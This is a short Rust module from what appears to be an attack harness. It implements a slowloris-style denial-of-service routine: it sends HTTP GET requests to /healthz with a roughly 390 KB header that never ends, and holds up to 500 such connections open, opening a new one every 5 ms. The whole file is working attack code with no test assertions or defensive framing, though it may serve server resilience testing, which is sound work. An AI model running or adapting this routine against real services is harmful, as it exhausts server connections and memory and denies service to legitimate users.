//! Heads of requests that are as long as they may be and do not end.

use super::Attacker;
use std::{collections::VecDeque, time::Duration};
use tokio::time::sleep;

/// Bytes of a head.
const SIZE: usize = 390 << 10;
/// Connections that are held at once.
const HELD: usize = 500;
const PAUSE: Duration = Duration::from_millis(5);

/// Sends heads without a token, each up to its last line.
pub async fn long_heads(attacker: Attacker) {
    let head = format!("GET /healthz HTTP/1.1\r\nX: {}", "x".repeat(SIZE));
    let mut held = VecDeque::new();
    while attacker.goes_on() {
        if let Ok(stream) = attacker.send(&[head.as_bytes()]).await {
            held.push_back(stream);
        }
        if held.len() > HELD {
            held.pop_front();
        }
        sleep(PAUSE).await;
    }
}
